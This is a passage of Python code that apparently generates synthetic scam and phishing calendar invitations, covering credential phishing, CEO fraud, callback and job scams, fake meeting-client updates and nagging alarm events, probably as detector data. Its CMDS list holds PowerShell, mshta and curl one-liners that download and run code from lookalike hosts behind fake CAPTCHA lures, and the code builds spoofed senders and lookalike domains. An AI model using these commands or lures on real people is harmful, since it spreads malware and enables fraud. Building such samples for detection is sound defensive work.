        dom = lookalike(rng, rng.choice(['date', 'flirt', 'meet', 'love']))
    local = ctx['rcpt']['addr'].split('@')[0] if kind == 'spoof' else None
    frm = senders.make(rng, ctx, kind, junk=kind != 'spoof', local=local, domain=dom,
                       name=girl if 'girl' in blk['subj'] + blk['body'] else None)
    s, e = _ev_times(rng, ctx, days=(0, 2), hours=(18, 23))
    ev = new_event(ctx, F(blk['subj'], fr), None, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 0, 0, 6])))
    text = place_payload(rng, ctx, ev, F(blk['body'], fr), url if '{url}' in blk['body'] else None, rng.choice(BENIGN))
    return base(ctx, frm, [ev], text=text)


def b_fee_scam(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['lookalike', 'spoof', 'free', 'org', 'nodkim', 'lookalike'])
    brand, tok = blk.get('brand') or rng.choice([b for b in FEE_BRANDS if b[0] in blk.get('brands', [x[0] for x in FEE_BRANDS])])
    url = rurl(rng, tok)
    fr = _common_fills(rng, ctx, dict(brand=brand, url=url, amt=money(rng, ctx['lang'], 1, 9) if blk.get('small', True) else money(rng, ctx['lang'], 80, 900)))
    dom = None
    if kind in ('lookalike', 'nodkim'):
        dom = lookalike(rng, tok)
    elif kind == 'spoof':
        dom = lookalike(rng, tok)
    frm = senders.make(rng, ctx, kind, junk=kind == 'free', domain=dom,
                       local=rng.choice(['noreply', 'info', 'notification', 'service', 'no-reply']) if kind != 'free' else None,
                       name=brand if rng.random() < 0.8 else None)
    s, e = _ev_times(rng, ctx, days=(0, 3))
    ev = new_event(ctx, F(blk['subj'], fr), None, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 0, 0, 2, 15])))
    text = place_payload(rng, ctx, ev, F(blk['body'], fr), url, rng.choice(BENIGN))
    return base(ctx, frm, [ev], text=text)


DOCS = ['Q3 Vendor Agreement.pdf', 'Payroll Adjustment 2024.xlsx', 'Salary Review - Confidential', 'NDA_signed.pdf',
        'Purchase Order 4471.pdf', 'Benefits Enrollment Form', 'Invoice_00392.pdf', 'Revised Contract v3',
        'Employee Handbook Update', 'Bonus Allocation.xlsx']


def b_credential_phish(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['lookalike', 'lookalike', 'org', 'spoof', 'free', 'nodkim'])
    brand, tok = blk.get('brand') or rng.choice(PHISH_BRANDS)
    url = rurl(rng, tok, kind=rng.choice(['look', 'look', 'abused', 'short']))
    sender_person = person(rng, ctx['lang'])
    fr = _common_fills(rng, ctx, dict(brand=brand, url=url, doc=rng.choice(DOCS), sender=sender_person['name'],
                                      sec='%02d' % rng.randint(12, 59), vm='(%03d) %03d-%04d' % (rng.randint(201, 989), rng.randint(200, 999), rng.randint(0, 9999)),
                                      ip=str(rng.randint(2, 254))))
    dom = None
    if kind in ('lookalike', 'nodkim'):
        dom = lookalike(rng, tok)
    elif kind == 'spoof':
        dom = rng.choice([ctx['rcpt']['domain'], lookalike(rng, tok)])
    frm = senders.make(rng, ctx, kind, domain=dom, junk=kind == 'free',
                       local=rng.choice(['no-reply', 'notifications', 'security', 'it-support', 'admin', 'dse']) if kind in ('lookalike', 'spoof', 'nodkim') else None,
                       name=rng.choice([brand, '%s via %s' % (sender_person['name'], brand), 'IT Service Desk', 'Mail Administrator', None]))
    s, e = _ev_times(rng, ctx, days=(0, 2))
    ev = new_event(ctx, F(blk['subj'], fr), None, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 0, 0, 4])))
    text = place_payload(rng, ctx, ev, F(blk['body'], fr), url, rng.choice(BENIGN))
    return base(ctx, frm, [ev], text=text)


def b_callback_scam(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['free', 'free', 'free', 'org', 'nodkim', 'spoof'])
    product, co = rng.choice(CALLBACK_BRANDS)
    fr = _common_fills(rng, ctx, dict(product=product, co=co, amt=money(rng, ctx['lang'], 199, 699),
                                      inv='%s%d' % (rng.choice(['INV', 'NRT', 'ORD', '#', 'GS', 'MCF']), rng.randint(10 ** 6, 10 ** 9))))
    dom = None
    if kind == 'nodkim':
        dom = lookalike(rng, co.lower().replace(' ', ''))
    elif kind == 'spoof':
        dom = lookalike(rng, co.lower().replace(' ', ''))
    frm = senders.make(rng, ctx, kind, junk=rng.random() < 0.6, domain=dom,
                       name=rng.choice([co + ' Billing', co, 'Billing Department', None, pick_name(rng, 'en')[0]]))
    s, e = _ev_times(rng, ctx, days=(0, 2))
    body = F(blk['body'], fr)
    ev = new_event(ctx, F(blk['subj'], fr), body, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 0, 0, 1, 3])))
    if rng.random() < 0.3:
        ev['loc'] = fr['phone']
    return base(ctx, frm, [ev], text=body)


CMDS = [
    'powershell -w h -nop -c "iex(irm https://{h}/v.txt)" # I am not a robot - reCAPTCHA ID {n}',
    'mshta https://{h}/verify.hta # Cloudflare human check {n}',
    'cmd /c curl -s https://{h}/s | powershell - # Verification ID: {n}',
    'powershell -ep bypass -c "$u=\'https://{h}/fix.ps1\';iex (New-Object Net.WebClient).DownloadString($u)"',
]


def b_fake_update(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['lookalike', 'org', 'free', 'spoof', 'nodkim'])
    brand = rng.choice(['teams', 'zoom', 'webex', 'meet', 'gotomeeting'])
    host = lookalike(rng, brand + rng.choice(['-update', 'app', '-client', '-download', 'cdn']))
    fname = rng.choice(['ZoomInstallerFull.exe', 'Teams_windows_x64.msi', 'MeetingClient-Setup.exe', 'CodecPack_x64.msi',
                        'SecureViewer.exe', 'webex_update.msix', 'ZoomWorkplace.dmg'])
    url = 'https://%s/%s' % (host, fname)
    cmd = rng.choice(CMDS).replace('{h}', lookalike(rng, rng.choice(['captcha', 'verify', 'cloud', 'check']))).replace('{n}', str(rng.randint(100000, 999999)))
    fr = _common_fills(rng, ctx, dict(url=url, cmd=cmd))
    dom = lookalike(rng, brand) if kind in ('lookalike', 'nodkim') else (lookalike(rng, brand) if kind == 'spoof' else None)
    frm = senders.make(rng, ctx, kind, domain=dom, name=rng.choice(['Microsoft Teams', 'Zoom', 'Meeting Services', None, pick_name(rng, ctx['lang'])[0]]))
    s, e = _ev_times(rng, ctx, days=(0, 3))
    ev = new_event(ctx, F(blk['subj'], fr), None, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 2, 5])))
    body = F(blk['body'], fr)
    if '{cmd}' in blk['body'] and '{url}' not in blk['body']:
        ev['desc'] = body
        text = body
    else:
        text = place_payload(rng, ctx, ev, body, url, rng.choice(BENIGN))
    if ctx['client'] in ('webapp', 'thunderbird', 'nextcloud', 'sogo') and rng.random() < 0.5:
        ev['attach'] = ['ATTACH;FMTTYPE=application/octet-stream:%s' % url]
    if ctx['client'] == 'zoom':
        ev['loc'] = 'https://us05web.zoom.us/j/%d?pwd=%s' % (rng.randint(10 ** 9, 10 ** 10), alnum(rng, 32, string.ascii_letters + string.digits))
    return base(ctx, frm, [ev], text=text)


BEC_TITLES = ['CEO', 'Managing Director', 'CFO', 'President', 'Geschäftsführer', 'Director']


def b_bec(rng, ctx, blk):
    r = ctx['rcpt']
    supplier = rng.choice(ORGS[ctx['lang']] + ORGS['en'])
    boss = person(rng, ctx['lang'], domain=supplier if blk.get('supplier') else r['domain'])
    kind = choose_kind(rng, ctx, ['free', 'lookalike', 'lookalike', 'org', 'spoof'])
    dom = None
    if kind in ('lookalike', 'nodkim'):
        base_dom = boss['domain'].split('.')[0]
        dom = rng.choice(['%s-%s.com' % (base_dom, rng.choice(['group', 'corp', 'inc', 'hq', 'ltd'])),
                          '%s.%s' % (base_dom.replace('o', '0', 1) if 'o' in base_dom else base_dom + 's', rng.choice(['com', 'net', 'co'])),
                          '%s%s.com' % (base_dom.replace('l', 'I', 1).lower() if 'l' in base_dom else base_dom, rng.choice(['', '-mail', 'mail']))])
    elif kind == 'spoof':
        dom = boss['domain']
    fr = _common_fills(rng, ctx, dict(sender=boss['name'], payee=rng.choice(['Summit Freight Ltd', 'Nordlicht Medien GmbH', boss['name'], 'Harbor Analytics LLC']),
                                      bic=alnum(rng, 4, string.ascii_uppercase) + rng.choice(['DE', 'GB', 'LT', 'NL', 'ES', 'HK']) + alnum(rng, 2, string.ascii_uppercase + '2'),
                                      amt=money(rng, ctx['lang'], 18000, 96000, cents=False),
                                      inv='%d-%04d' % (ctx['arr'].year, rng.randint(1, 9999))))
    local = boss['addr'].split('@')[0] if kind != 'free' else rng.choice([boss['addr'].split('@')[0], 'ceo.office' + str(rng.randint(1, 99)), 'exec.' + boss['addr'].split('@')[0].split('.')[-1]])
    if kind == 'org':   # compromised supplier mailbox
        dom = supplier
    frm = senders.make(rng, ctx, kind, name=boss['name'], local=local, domain=dom)
    s, e = _ev_times(rng, ctx, days=(0, 2), dur=(15, 30))
    body = F(blk['body'], fr)
    ev = new_event(ctx, F(blk['subj'], fr), body, s, e, frm, [dict(name=r['name'], addr=r['addr'])] + (
        [dict(name=frm[0], addr=frm[1], partstat='ACCEPTED', rsvp=False)] if ctx['client'] == 'google' else []))
    extra = {}
    if rng.random() < 0.35:
        extra['reply_to'] = (boss['name'], '%s@%s' % (boss['addr'].split('@')[0], rng.choice(['gmail.com', 'outlook.com', 'proton.me', 'mail.com'])))
    return base(ctx, frm, [ev], text=body, **extra)


def b_advance_fee(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['free', 'free', 'org', 'nodkim', 'spoof'])
    p = person(rng, 'en')
    fr = _common_fills(rng, ctx, dict(sender=p['name'], lastn=ctx['rcpt']['name'].split()[-1], url=rurl(rng, kind=rng.choice(['look', 'rand']))))
    dom = None
    if kind == 'nodkim':
        dom = rng.choice(['un-compensation.org', 'worldbank-payments.net', 'chambers-law.co', 'diplomatic-courier.org'])
    elif kind == 'spoof':
        dom = rng.choice(['uncc-payments.org', 'imf-paymentdesk.org', 'fedreserve-transfers.com', 'eu-compensation.eu'])
    frm = senders.make(rng, ctx, kind, name=p['name'], domain=dom, junk=rng.random() < 0.3)
    s, e = _ev_times(rng, ctx, days=(0, 7))
    body = F(blk['body'], fr)
    ev = new_event(ctx, F(blk['subj'], fr), body, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 0, 10, 40])))
    extra = {}
    if rng.random() < 0.6:
        extra['reply_to'] = (p['name'], '%s%d@%s' % (p['addr'].split('@')[0].split('.')[0], rng.randint(1, 99), rng.choice(['gmail.com', 'outlook.com', 'yahoo.com', 'aol.com', 'qq.com'])))
    return base(ctx, frm, [ev], text=body, **extra)


def b_task_job_scam(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['free', 'free', 'org', 'lookalike', 'nodkim'])
    p = person(rng, ctx['lang'])
    wa = ctx['fills']['wa']
    fr = _common_fills(rng, ctx, dict(sender=p['name'], wan=wa.replace('+', '').replace(' ', ''), url=rurl(rng, kind='short')))
    dom = lookalike(rng, rng.choice(['careers', 'jobs', 'talent', 'hr', 'recruit'])) if kind in ('lookalike', 'nodkim') else None
    frm = senders.make(rng, ctx, kind, name=rng.choice([p['name'], 'HR Department', 'Recruitment Team', None]), domain=dom, junk=rng.random() < 0.4)
    s, e = _ev_times(rng, ctx, days=(0, 5))
    body = F(blk['body'], fr)
    ev = new_event(ctx, F(blk['subj'], fr), body, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 0, 5, 25])))
    if rng.random() < 0.3:
        ev['loc'] = rng.choice(['WhatsApp', 'Telegram', 'https://wa.me/' + fr['wan'], 'Online'])
    if ctx['client'] == 'zoom':
        ev['loc'] = 'https://us04web.zoom.us/j/%d' % rng.randint(10 ** 9, 10 ** 10)
    return base(ctx, frm, [ev], text=body)


def b_doc_share_compromised(rng, ctx, blk):
    # a real partner's mailbox: fully authenticated
    lang = ctx['lang']
    p = person(rng, lang)
    kind = choose_kind(rng, ctx, ['org', 'org', 'org', 'free'])
    co_dom = p['domain']
    co = co_dom.split('.')[0].replace('-', ' ').title()
    url = rurl(rng, kind=rng.choice(['abused', 'abused', 'look', 'short']))
    fr = _common_fills(rng, ctx, dict(sender=p['name'], co=co, url=url))
    frm = senders.make(rng, ctx, kind, name=p['name'], local=p['addr'].split('@')[0], domain=co_dom)
    s, e = _ev_times(rng, ctx, days=(0, 4))
    # compromised mailboxes often blast their whole address book
    n = rng.choice([0, 0, 3, 15, 60, 120])
    ev = new_event(ctx, F(blk['subj'], fr), None, s, e, frm, _attendee_list(rng, ctx, frm, n, rcpt_first=False, same_domain_p=0.2))
    text = place_payload(rng, ctx, ev, F(blk['body'], fr), url, F(blk['body'], fr).split('\n')[0])
    return base(ctx, frm, [ev], text=text)


def b_nagging_payload(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['free', 'free', 'lookalike', 'nodkim', 'org'])
    url = rurl(rng, kind=rng.choice(['rand', 'short', 'look']))
    fr = _common_fills(rng, ctx, dict(url=url, phone=ctx['fills']['phone']))
    frm = senders.make(rng, ctx, kind, junk=True, domain=lookalike(rng, alnum(rng, 5, string.ascii_lowercase)) if kind in ('lookalike', 'nodkim') else None,
                       name=rng.choice(['Security Center', 'Alert', 'Reminder', None, 'Casino VIP', 'Support']))
    mode = rng.choice(['daily', 'hourly', 'alarms', 'future', 'longspan', 'weekly-alarms'])
    s, e = _ev_times(rng, ctx, days=(0, 1), dur=(15, 30))
    ev = new_event(ctx, F(blk['subj'], fr), None, s, e, frm, _attendee_list(rng, ctx, frm, rng.choice([0, 0, 2])))
    if mode == 'daily':
        ev['rrule'] = 'FREQ=DAILY'
        ev['alarms'] = [{'trigger': '-PT%dM' % m} for m in (0, 5, 30)]
    elif mode == 'hourly':
        ev['rrule'] = 'FREQ=HOURLY;INTERVAL=%d' % rng.choice([1, 2, 3])
    elif mode == 'alarms':
        ev['alarms'] = [{'trigger': '-PT%dM' % (i * rng.choice([1, 2, 5])), 'repeat': rng.choice([0, 10, 50]), 'duration': 'PT1M'} for i in range(rng.randint(8, 25))]
    elif mode == 'future':
        yr = rng.choice([2099, 2088, 2100, 2077, 2999])
        ev['start'] = ev['start'].replace(year=yr)
        ev['end'] = ev['end'].replace(year=yr)
        ev['rrule'] = 'FREQ=DAILY;INTERVAL=1'
    elif mode == 'longspan':
        ev['allday'] = True
        ev['start'] = ev['start'].replace(hour=0, minute=0)
        ev['end'] = ev['start'] + dt.timedelta(days=rng.choice([365, 730, 3650]))
    else:
        ev['rrule'] = 'FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU'
        ev['alarms'] = [{'trigger': '-PT%dM' % m} for m in range(0, 60, 5)]
    text = place_payload(rng, ctx, ev, F(blk['body'], fr), url if '{url}' in blk['body'] else None, rng.choice(BENIGN))
    if ctx['client'] == 'google':
        ev['alarms'] = ev.get('alarms') or []
    if ctx['client'] in ('webapp', 'thunderbird') and mode in ('alarms', 'daily') and rng.random() < 0.5:
        ev['comp'] = 'VTODO'
        ev['priority'] = 1
        ev['status'] = 'NEEDS-ACTION'
    if mode == 'longspan' and rng.random() < 0.5:
        ev['start'] = ev['start'] - dt.timedelta(days=rng.randint(30, 400))   # started in the past, runs for years
    return base(ctx, frm, [ev], text=text)


def b_mass_invite(rng, ctx, blk):
    kind = choose_kind(rng, ctx, ['free', 'free', 'org', 'lookalike', 'nodkim'])
    url = rurl(rng, kind=rng.choice(['rand', 'short', 'abused']))
    fr = _common_fills(rng, ctx, dict(url=url))
    frm = senders.make(rng, ctx, kind, junk=True, domain=lookalike(rng, alnum(rng, 5, string.ascii_lowercase)) if kind in ('lookalike', 'nodkim') else None,
                       name=rng.choice([None, pick_name(rng, 'en')[0], 'Promo', 'VIP']))
    s, e = _ev_times(rng, ctx, days=(0, 2))
    n = rng.randint(150, 600)
    atts = _attendee_list(rng, ctx, frm, n, rcpt_first=False, same_domain_p=0.1)
    ev = new_event(ctx, F(blk['subj'], fr), None, s, e, frm, atts)
    text = place_payload(rng, ctx, ev, F(blk['body'], fr), url, rng.choice(BENIGN))
    if ctx['client'] == 'zoom':
        ev['attendees'] = ev['attendees'][:1]
    return base(ctx, frm, [ev], text=text)
